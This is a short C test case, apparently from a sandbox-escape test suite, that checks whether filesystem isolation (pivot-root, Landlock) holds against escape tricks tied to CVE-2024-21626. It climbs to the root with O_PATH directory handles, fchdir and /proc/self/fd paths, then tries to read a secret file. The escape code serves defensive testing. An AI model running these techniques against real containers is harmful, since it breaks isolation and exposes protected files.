// id = "files-path-descriptors"
// title = "climb out by O_PATH directories: fchdir, openat .., /proc/self/fd"
// guarantee = "filesystem"
// layers = ["pivot-root", "landlock-fs"]
// source = ["CVE-2024-21626"]
// needs = ["secret-file"]
// bare = "user"
#include "attack.h"

int main(int argc, char **argv) {
    attack_start(argc, argv);
    const char *path = prop("secret_path");
    char name[4200];
    int fd, handle = open(".", O_PATH | O_DIRECTORY);
    for (int level = 0; level < 40 && handle >= 0; level++) {
        int up = openat(handle, "..", O_PATH | O_DIRECTORY);
        if (up < 0) break;
        close(handle);
        handle = up;
    }
    if (tried("openat above", fd = openat(handle, path + 1, O_RDONLY))) attack_show(fd);
    snprintf(name, sizeof name, "/proc/self/fd/%d%s", handle, path);
    if (tried("/proc/self/fd above", fd = open(name, O_RDONLY))) attack_show(fd);
    if (fchdir(handle) == 0 && tried("fchdir above", fd = open(path + 1, O_RDONLY))) attack_show(fd);
    int file = open(path, O_PATH);
    snprintf(name, sizeof name, "/proc/self/fd/%d", file);
    if (tried("O_PATH reopened", fd = open(name, O_RDONLY))) attack_show(fd);
    if (tried("AT_EMPTY_PATH", fd = openat(file, "", O_RDONLY))) attack_show(fd);
    attack_finish();
}
